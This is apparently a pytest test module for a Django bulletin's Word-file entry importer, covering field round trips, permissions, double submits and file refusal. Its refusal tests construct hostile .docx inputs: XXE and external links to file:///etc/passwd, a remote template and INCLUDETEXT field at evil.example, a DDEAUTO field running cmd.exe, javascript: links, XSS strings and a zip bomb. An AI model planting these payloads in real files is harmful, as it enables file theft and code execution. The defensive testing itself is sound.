"""Importing one entry from a Word file into a section of an existing issue: every field round
trips from generated files of varied shapes; the entry is the importer's draft at the end of the
section; who may not add entries, and files that are not one harmless entry, write nothing."""

import html
import re
import threading
import uuid
from html.parser import HTMLParser

import docx
import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.utils.html import strip_tags

from bulletin.services.events import WorkflowError
from bulletin.transfer import word
from bulletin.transfer.entries import entry_import_docx
from bulletin.transfer.extracted import UnreadableFile
from bulletin.transfer.models import EntryImport
from bulletin.transfer.services import ImportFailed
from entries.models import Commentary, Entry, EntryLink
from people.models import Author
from tests.factories import (
    AuthorFactory,
    EntryFactory,
    IssueFactory,
    SectionFactory,
    UserFactory,
    publish,
)
from tests.transfer.test_pdf_word_import import hyperlink, zip_bomb
from tests.transfer.wordfiles import (
    entry_docx,
    entry_spec,
    marked_paragraph,
    save,
    with_document_xml,
    with_part,
)

pytestmark = pytest.mark.django_db
SEEDS = range(16)


def plain(rich: str) -> str:
    return re.sub(r"\s+", "", html.unescape(strip_tags(rich)))


@pytest.fixture
def author():
    return UserFactory(username="lin", roles=["Author"])


@pytest.fixture
def section():
    return SectionFactory(issue=IssueFactory(), position=1, title="最新法律与监管动态")


def nothing_written(before: int = 0) -> bool:
    return Entry.objects.count() == before and not EntryImport.objects.exists()


class _Marks(HTMLParser):
    """Each character of some HTML with the marks around it: {"b", "i", "u", "a:<href>"}."""

    TAGS = {"strong": "b", "em": "i", "u": "u"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open, self.chars = [], []

    def handle_starttag(self, tag, attrs):
        self.open.append(f"a:{dict(attrs)['href']}" if tag == "a" else self.TAGS.get(tag, ""))

    def handle_endtag(self, tag):
        self.open.pop()

    def handle_data(self, data):
        self.chars += [(char, frozenset(m for m in self.open if m)) for char in data]


def marks_of(rich: str) -> list[tuple[str, frozenset]]:
    parser = _Marks()
    parser.feed(rich)
    return [(c, marks) for c, marks in parser.chars if not c.isspace()]


def expected_marks(runs) -> list[tuple[str, frozenset]]:
    found = []
    for text, style, link in runs:
        marks = {letter for letter in "biu" if letter in style} | ({f"a:{link}"} if link else set())
        found += [(char, frozenset(marks)) for char in text if not char.isspace()]
    return found


# Round trips


@pytest.mark.parametrize("seed", SEEDS)
def test_every_field_of_a_generated_entry_round_trips(seed, author, section):
    spec = entry_spec(seed)
    result = entry_import_docx(
        section=section, content=entry_docx(spec), user=author, source=f"entry-{seed}.docx"
    )
    entry = Entry.objects.get(pk=result.entry.pk)
    assert entry.title == spec["title"]
    assert entry.published_on == spec["date"]
    assert entry.source == spec["source"]
    assert (entry.case_caption, entry.docket_number, entry.court) == (spec["case"] or ("",) * 3)
    links = [(link.kind, link.label, link.url) for link in entry.links.order_by("position")]
    expected = [
        (kind, label or "", url) for kind, label, url in spec["links"]
    ]  # grouped by label in the file, in the order written
    assert sorted(links) == sorted(expected)
    summary = entry.summary
    assert plain(summary).startswith(plain(spec["summary_intro"]))
    assert re.search(r"<ol><li><p>风险最小的系统不受约束；</p></li>", summary)
    assert '<ol type="a"><li><p>风险评估；</p></li><li><p>人工监督。</p></li></ol>' in summary
    marked = re.findall(r"<p>(.*?)</p>", summary)[1]  # the paragraph after the intro
    assert marks_of(marked) == expected_marks(spec["summary_runs"])
    if spec["commentary"]:
        commentary = entry.commentary
        assert plain(commentary.body) == plain(spec["commentary_text"])
        assert sorted(a.name for a in commentary.authors.all()) == sorted(spec["authors"])
    else:
        assert not Commentary.objects.filter(entry=entry).exists()
        assert "值得企业关注" not in summary
    kind = "case" if spec["case"] else ("law" if "签署" in spec["title"] else "regulation")
    assert entry.kind == kind


def test_bold_italics_and_links_on_words_are_kept_in_lists_commentaries_and_after_labels(
    author, section
):
    document = docx.Document()
    document.add_paragraph("1. 示例机构发布指引")
    document.add_paragraph("来源：示例机构")
    summary = document.add_paragraph("摘要：")
    marked_paragraph(summary, [("开头加粗", "b", ""), ("，接着是", "", "")])
    item = document.add_paragraph("1) ")
    marked_paragraph(item, [("第一项", "", ""), ("原文", "a", "mailto:desk@example.org")])
    document.add_paragraph("2) 第二项，见 https://example.org/plain 。")
    document.add_paragraph("本所短评")
    comment = document.add_paragraph()
    marked_paragraph(comment, [("短评里的", "", ""), ("斜体与链接", "ai", "https://e.example/c")])
    script = document.add_paragraph()
    marked_paragraph(script, [('<script>alert("x")</script>', "b", "")])
    result = entry_import_docx(section=section, content=save(document), user=author)
    entry = Entry.objects.get(pk=result.entry.pk)
    assert entry.summary.startswith("<p><strong>开头加粗</strong>，接着是</p><ol>")
    assert '<li><p>第一项<a href="mailto:desk@example.org">原文</a></p></li>' in entry.summary
    assert '第二项，见 <a href="https://example.org/plain">https://example.org/plain</a>' in (
        entry.summary
    )
    body = entry.commentary.body
    assert marks_of(body)[:4] == [(c, frozenset()) for c in "短评里的"]
    assert set(marks_of(body)[4:9]) == {
        (c, frozenset({"i", "a:https://e.example/c"})) for c in "斜体与链接"
    }
    assert "&lt;script&gt;alert" in body and "<script" not in body


def _summary_of(author, section, *paragraphs) -> tuple[str, list[str]]:
    """The summary an entry of these summary paragraphs (lists of runs) gets, and the notes."""
    document = docx.Document()
    document.add_paragraph("1. 示例机构发布指引")
    document.add_paragraph("来源：示例机构")
    document.add_paragraph("摘要：")
    for runs in paragraphs:
        marked_paragraph(document.add_paragraph(), runs)
    result = entry_import_docx(section=section, content=save(document), user=author)
    notes = [message for _line, message in result.report.notes]
    return Entry.objects.get(pk=result.entry.pk).summary, notes


def test_the_same_words_linked_twice_to_different_places_are_plain_and_noted(author, section):
    first = [("详情请见", "", ""), ("原文", "a", "https://one.example/a"), ("。", "", "")]
    second = [("详情请见", "", ""), ("原文", "a", "https://two.example/b"), ("。", "", "")]
    plain_twice = [("本条", "b", ""), ("自公布之日起施行。", "", "")]
    summary, notes = _summary_of(
        author, section, first, second, plain_twice, [("本条自公布之日起施行。", "", "")]
    )
    assert summary == (
        "<p>详情请见原文。</p><p>详情请见原文。</p>"
        "<p>本条自公布之日起施行。</p><p>本条自公布之日起施行。</p>"
    )
    assert any("详情请见原文。" in note and "plain text" in note for note in notes)
    same, _notes = _summary_of(
        author, SectionFactory(issue=section.issue, position=2), first, first
    )
    assert same.count('<a href="https://one.example/a">原文</a>') == 2


def test_a_mark_inside_a_url_and_an_upper_case_scheme(author, section):
    summary, _notes = _summary_of(
        author,
        section,
        [("见 https://example.org/", "", ""), ("path", "b", ""), ("/x 。", "", "")],
        [("大写", "a", "HTTPS://EXAMPLE.ORG/Upper")],
    )
    assert '<a href="https://example.org/path/x">https://example.org/path/x</a>' in summary
    assert '<a href="HTTPS://EXAMPLE.ORG/Upper">大写</a>' in summary


def test_a_link_inside_a_link_keeps_the_outer_one_for_all_its_words():
    """mammoth writes a hyperlink field inside a hyperlink as nested links."""
    blocks = word._Blocks()
    blocks.feed(
        '<p>前文<a href="http://a.example/">外<a href="http://b.example/">内</a>尾</a>'
        "<strong>后</strong></p><p>下一段</p>"
    )
    blocks.close()
    marked, _notes = word._kept_marks(blocks.found, [])
    assert marked == {
        "前文外内尾后": '前文<a href="http://a.example/">外内尾</a><strong>后</strong>'
    }


def test_the_entry_is_the_importers_draft_at_the_end_of_the_section(author, section):
    EntryFactory(section=section, position=1)
    EntryFactory(section=section, position=4)
    result = entry_import_docx(section=section, content=entry_docx(entry_spec(1)), user=author)
    entry = result.entry
    assert (entry.position, entry.state, entry.issue_id) == (5, "draft", section.issue_id)
    assert entry.created_by == author and entry.last_edited_by == author
    assert result.record.created_by == author and result.record.entry == entry
    second = entry_import_docx(section=section, content=entry_docx(entry_spec(2)), user=author)
    assert second.entry.position == 6


def test_jurisdictions_are_suggested_as_on_a_whole_import(author, section):
    spec = entry_spec(3) | {"title": "加州《人工智能安全法案》经州长签署生效", "source": "加州议会"}
    result = entry_import_docx(section=section, content=entry_docx(spec), user=author)
    codes = set(result.entry.jurisdictions.values_list("code", flat=True))
    assert codes == {"us-ca"}
    assert any("Jurisdictions were suggested" in note for _line, note in result.report.notes)


def test_commentary_authors_are_matched_by_name_not_duplicated(author, section):
    existing = AuthorFactory(name="林青山")
    spec = entry_spec(5) | {"commentary": "本所短评", "authors": ["林 青山", "何承泽"]}
    entry = entry_import_docx(section=section, content=entry_docx(spec), user=author).entry
    authors = list(entry.commentary.authors.order_by("name"))
    assert existing in authors and len(authors) == 2
    assert Author.objects.filter(name="林青山").count() == 1
    # An author may not add profiles: the new name is an inactive profile for a publisher.
    assert Author.objects.get(name="何承泽").is_active is False


def test_the_issues_own_commentary_label_is_read(author):
    section = SectionFactory(issue=IssueFactory(commentary_label="律师点睛"), position=1)
    spec = entry_spec(12) | {"commentary": "律师点睛", "authors": []}
    entry = entry_import_docx(section=section, content=entry_docx(spec), user=author).entry
    assert plain(entry.commentary.body) == plain(spec["commentary_text"])
    assert "值得企业关注" not in entry.summary


def test_a_summary_with_markup_typed_as_text_stays_text(author, section):
    spec = entry_spec(6) | {"summary_intro": '<script>alert(1)</script><img src=x onerror="a()">'}
    entry = entry_import_docx(section=section, content=entry_docx(spec), user=author).entry
    assert "<script" not in entry.summary and "<img" not in entry.summary
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in entry.summary


def test_a_section_heading_above_the_title_is_not_used(author, section):
    document = docx.Document()
    document.add_paragraph("二、最新行业动态")
    document.add_paragraph("1. 示例科技发布推理模型")
    document.add_paragraph("发布日期：2024 年 8 月 2 日")
    document.add_paragraph("摘要：示例科技发布推理模型。")
    result = entry_import_docx(section=section, content=save(document), user=author)
    assert (result.entry.title, result.entry.section) == ("示例科技发布推理模型", section)
    assert any("二、最新行业动态" in note for _line, note in result.report.notes)


def test_only_the_commentary_authors_become_authors(author, section):
    document = docx.Document()
    for text in ["1. 示例指引发布", "发布日期：2024-08-01", "摘要：摘要。", "本所短评"]:
        document.add_paragraph(text)
    for text in ["点评人：林青山", "值得关注。", "特此声明", "本刊物不构成法律意见。"]:
        document.add_paragraph(text)
    document.add_paragraph("本期撰写人：何承泽")
    entry = entry_import_docx(section=section, content=save(document), user=author).entry
    assert [a.name for a in entry.commentary.authors.all()] == ["林青山"]
    assert list(Author.objects.values_list("name", flat=True)) == ["林青山"]


def test_a_title_too_long_is_refused_with_its_line(author, section):
    spec = entry_spec(2) | {"title": "很长的标题" * 120, "numbered_title": "1. "}
    with pytest.raises(ImportFailed) as refused:
        entry_import_docx(section=section, content=entry_docx(spec), user=author)
    assert "at most 500 characters" in str(refused.value)
    assert nothing_written()


# Double submits


def test_the_same_form_sent_twice_imports_the_entry_once(author, section):
    token, content = uuid.uuid4(), entry_docx(entry_spec(7))
    first = entry_import_docx(section=section, content=content, user=author, token=token)
    again = entry_import_docx(section=section, content=content, user=author, token=token)
    assert again.repeated and not first.repeated
    assert again.entry == first.entry and Entry.objects.count() == 1


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("same_form", [True, False], ids=["same-form", "two-forms"])
def test_two_submits_at_once_never_clash_on_the_position(same_form):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL for row locks between connections")
    user = UserFactory(username="lin", roles=["Author"])
    section = SectionFactory(issue=IssueFactory(), position=1)
    content, token = entry_docx(entry_spec(8)), uuid.uuid4()
    start, results, errors = threading.Barrier(2), [], []

    def submit():
        try:
            start.wait()
            form_token = token if same_form else uuid.uuid4()
            results.append(
                entry_import_docx(section=section, content=content, user=user, token=form_token)
            )
        except Exception as exc:  # noqa: BLE001 - the test reports whatever went wrong
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=submit) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    positions = sorted(Entry.objects.values_list("position", flat=True))
    assert positions == ([1] if same_form else [1, 2])
    assert sorted(r.repeated for r in results) == ([False, True] if same_form else [False, False])


# Who may import


def test_a_reader_may_not_import(section):
    reviewer = UserFactory(username="rev", roles=["Reviewer"])
    with pytest.raises(PermissionDenied):
        entry_import_docx(section=section, content=entry_docx(entry_spec(1)), user=reviewer)
    assert nothing_written()


def test_an_editor_may_import(section):
    editor = UserFactory(username="ed", roles=["Editor"])
    result = entry_import_docx(section=section, content=entry_docx(entry_spec(1)), user=editor)
    assert result.entry.created_by == editor


def test_no_import_into_a_published_issue(author):
    section = SectionFactory(position=1)
    EntryFactory(section=section, position=1)
    publish(section.issue)
    with pytest.raises(WorkflowError):
        entry_import_docx(section=section, content=entry_docx(entry_spec(1)), user=author)
    assert Entry.objects.count() == 1 and not EntryImport.objects.exists()


# Files that are refused: a clear reason, nothing written


def two_entries(numbered: bool) -> bytes:
    document = docx.Document()
    for n, title in enumerate(["示例指引发布", "示例法规生效"], 1):
        document.add_paragraph(f"{n}. {title}" if numbered else title)
        document.add_paragraph(f"发布日期：2024 年 8 月 {n} 日")
        document.add_paragraph("摘要：")
        document.add_paragraph(f"第 {n} 条的摘要。")
    return save(document)


def labels_only() -> bytes:
    document = docx.Document()
    document.add_paragraph("发布日期：2024 年 8 月 1 日")
    document.add_paragraph("来源：示例")
    return save(document)


def prose_only() -> bytes:
    document = docx.Document()
    document.add_paragraph("这只是一段文字，没有任何标签。")
    document.add_paragraph("第二段文字。")
    return save(document)


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: two_entries(True), "holds 2 entries"),
        (lambda: two_entries(False), "holds 2 entries"),
        (lambda: save(docx.Document()), "empty"),
        (labels_only, "must be the entry's title"),
        (prose_only, "No entry found"),
    ],
    ids=["two-numbered", "two-plain", "empty", "labels-only", "prose-only"],
)
def test_a_file_without_exactly_one_entry_is_refused(make, message, author, section):
    with pytest.raises(ImportFailed) as refused:
        entry_import_docx(section=section, content=make(), user=author)
    assert message in "\n".join(m for _where, m in refused.value.report.errors)
    assert nothing_written()


def external_image(content: bytes) -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId99" TargetMode="External" Target="file:///etc/passwd" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
        "</Relationships>"
    )
    return with_part(content, "word/_rels/header9.xml.rels", rels)


def remote_template(content: bytes) -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    return with_part(content, "word/_rels/settings.xml.rels", rels, replace=True)


def field(code: str):
    def change(xml: str) -> str:
        run = (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {html.escape(code)} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>点击</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
        return xml.replace("</w:p>", run + "</w:p>", 1)

    return lambda content: with_document_xml(content, change)


def script_hyperlink(content: bytes) -> bytes:
    document = docx.Document()
    document.add_paragraph("1. 示例指引发布")
    hyperlink(document.add_paragraph("链接："), "javascript:alert(1)", "原文")
    document.add_paragraph("摘要：摘要。")
    return save(document)


def with_dtd(content: bytes) -> bytes:
    def change(xml: str) -> str:
        head, rest = xml.split("?>", 1)
        return head + '?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rest

    return with_document_xml(content, change)


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda content: b"%PDF-1.7\n" + content, "not a Word document"),
        (lambda content: "1. 标题\n发布日期：2024-08-01\n".encode(), "not a Word document"),
        (lambda content: zip_bomb(), "unpacks to more than"),
        (lambda content: content[: len(content) // 2], "not a Word document"),
        (external_image, "a link to an outside file (file:///etc/passwd)"),
        (remote_template, "a link to an outside file (http://evil.example/t.dotm)"),
        (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDEAUTO"),
        (field('INCLUDETEXT "http://evil.example/x"'), "INCLUDETEXT"),
        (field('HYPERLINK "javascript:alert(1)"'), "runs a script"),
        (lambda content: script_hyperlink(content), "runs a script"),
        (
            lambda content: with_part(content, "word/vbaProject.bin", b"\0" * 64),
            "macros or ActiveX",
        ),
        (with_dtd, "document type declaration"),
    ],
    ids=[
        "pdf",
        "text",
        "zip-bomb",
        "truncated",
        "external-image",
        "remote-template",
        "dde-field",
        "include-field",
        "script-field",
        "script-hyperlink",
        "macros",
        "dtd",
    ],
)
def test_a_hostile_or_wrong_file_is_refused_with_its_reason(make, message, author, section):
    content = entry_docx(entry_spec(1))
    with pytest.raises(UnreadableFile, match=re.escape(message)):
        entry_import_docx(section=section, content=make(content), user=author)
    assert nothing_written()


def test_a_local_template_and_hyperlinks_are_not_refused(author, section):
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" '
        'Target="file:///C:/Users/lin/Templates/Firm.dotx" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    content = with_part(entry_docx(entry_spec(1)), "word/_rels/settings.xml.rels", rels)
    entry = entry_import_docx(section=section, content=content, user=author).entry
    assert EntryLink.objects.filter(entry=entry).exists()


def test_a_whole_issue_in_word_reads_a_case_typed_on_three_lines():
    from bulletin.transfer.services import issue_import_file
    from tests.factories import BulletinFactory

    spec = entry_spec(0) | {"case": ("Doe v. Example, Inc.", "3:24-cv-01234", "N.D. Cal.")}
    spec |= {"case_lines": True, "numbered_title": "1. "}
    document = entry_docx(spec)
    result = issue_import_file(bulletin=BulletinFactory(), content=document, source="x.docx")
    entry = Entry.objects.get(issue=result.issue)
    assert (entry.case_caption, entry.docket_number, entry.court) == spec["case"]
